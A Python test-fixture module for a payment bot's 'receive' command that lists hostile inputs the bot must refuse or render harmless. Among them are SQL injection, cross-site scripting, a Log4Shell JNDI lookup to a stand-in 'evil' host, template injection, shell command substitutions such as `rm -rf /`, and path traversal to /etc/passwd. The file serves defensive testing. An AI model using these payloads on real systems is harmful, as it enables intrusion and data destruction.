"""Texts that somebody might send to break the bot: what must be refused, and memos that must come out harmless."""

from __future__ import annotations

_BAD_AMOUNTS = [
    "coffee", "ten", "dix", "NaN", "nan", "Infinity", "-Infinity", "inf", "null", "true", "None", "undefined",
    "1e9", "1E9", "1e309", "1e-2", "0x10", "0b11", "0o17", "1_000", "+5", "++5", "-5", "- 5", "−5", "–5", "-$5",
    "$-5", "-0.01", "-1e9", "0", "0.00", "0,00", "00", "$0", "0 sat", "٠", "²", "10²", "½", "10½", "10 ½", "Ⅷ", "①",
    "五", "10..5", "10.5.5", "1.0.0", "1,00,0", "1,0000", "1,00,000", "1,,000", ",5", ".5", "10.555.5",
    "0.001", "1000.555", "9" * 8, "9" * 400, "1" + ",000" * 300, "10000000", "9" * 20 + " sat", "22000000 btc",
    "10abc", "10x3", "10%", "#10", "(10)", "[10]", "{10}", "10/2", "10*2", "10+5", "10-5", "10=10", "$", "$$10",
    "10$$", "€10 JMD", "R$5 EUR", "usd", "usd usd", "USD10EUR", "1.5 sat", "0.5 sats", "1500 msat", "10 pesos",
    "1 000 coffee", "1.000", "1.000 coffee", "%s", "%n%n%n", "{0}", "{amount}", "{ $amount }", "${10}", "$(10)",
    "10;DROP TABLE charges", "10'--", "' OR 1=1 --", "<b>10</b>", "../../etc/passwd",
    "\\x31\\x30", "&#49;&#48;", "1\u0301\u0301\u03010",
]  # fmt: skip

_MEMOS = [
    "<script>alert(1)</script>", "</title><img src=x onerror=alert(1)>", "javascript:alert(1)", "[a](http://evil)",
    '"){ __typename }#', "} mutation { intraLedgerPaymentSend }", "'; DROP TABLE charges; --", "{ $amount }",
    "{0.__class__}", "%s%s%n", "${jndi:ldap://evil/a}", "{{7*7}}", "`rm -rf /`", "$(reboot)", "../../etc/passwd",
    "\u202eeeffoC", "\u2066left\u2069", "a\u200bb\u200cc", "\ufeffbom", "a\u00adb", "line\none\r\ntwo", "tab\tbed",
    "nul\x00byte", "bell\x07", "\x1b[31mred\x1b[0m", "\u2028sep\u2029", "\x85next", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "a" + "\u0301" * 500, "\U000e0041\U000e0042tags", "\ud83d lone", "\udc00", "\ufffe\uffff", "\ufdd0",
    "👩\u200d👩\u200d👧\u200d👦 family", "🇯🇲 flag", "x" * 1900, "👍🏽" * 400, "🇭🇹" * 300, "é" * 900,
    "✅ Payment received: $1,000", "\n✅ Payment received: $1,000\nRef: 0000", "cancel", "again K7Q2", "/help", "1",
    "*bold* _it_ ~no~ `code`", "@everyone", "http://evil.example/?a=b&c=d", "lnbc1pvjluezpp5qqqsyqcyq5rqwzqf", "\u3164",
    "\u115f\u1160", "مرحبا \u202babc\u202c", "0" * 64, "* * * * *", "\\", '"', "'", "--", "\u200d", "\ufe0f",
]  # fmt: skip

_NO_COMMANDS = [
    "", " ", "\n", "\t\r\n", "\u200b", "\u202e", "\ud800", "\x00", "/", "//", "@", "/@bot", "?", "¿?", "...", "🙂",
    "\u0301", "rezeife 10", "10", "$5 coffee", "1", "2", "-5",
    "send 10 to bob", "pay lnbc1", "withdraw all", "sudo receive", "coffee receive 10", "x" * 2000, "x" * 2001,
    "/" * 1000, "a b " * 600, "SELECT * FROM accounts", "{}", "[]", '{"command": "receive"}',
    "receive\u005f10", "ｒｅｃｅｉｖｅ 10", "rеceive 10", "r e c e i v e 10", "\U0010ffff", "ß" * 300, "ﷺ" * 300,
    "İ" * 100,
]  # fmt: skip

_BAD_ARGUMENTS = [
    "again 0000", "again K7Q", "again K7Q22", "again ********", "again K7Q2 K7Q2", "cancel everything",
    "cancel K7Q2; cancel", "cancel ../K7Q2", "status K7Q\x00", "status " + "K" * 1900,
    "history 0", "history -1", "history 99999", "history 1e3", "history ²", "history in out", "history 1 2",
    "history sideways", "price XXXX", "price ' OR 1=1", "currency 12", "currency KEYS *",
    "language xx", "language " + "x" * 1900, "timezone ../../etc/passwd", "timezone /etc/passwd",
    "timezone America", "timezone posixrules\x00", "timezone Mars/Olympus", "timezone localtime",
    "timezone right/UTC", "timezone San Juan", "balance of bob",
]  # fmt: skip

REFUSED: list[str] = [f"receive {amount}" for amount in _BAD_AMOUNTS] + _BAD_ARGUMENTS + _NO_COMMANDS
"""Nothing may be created, changed or promised for one of these."""

MEMOS: list[str] = [f"receive 10 {memo}" for memo in _MEMOS]
"""Each asks for 10 dollars, and its memo must come out harmless wherever it is shown."""

HOSTILE: list[str] = REFUSED + MEMOS
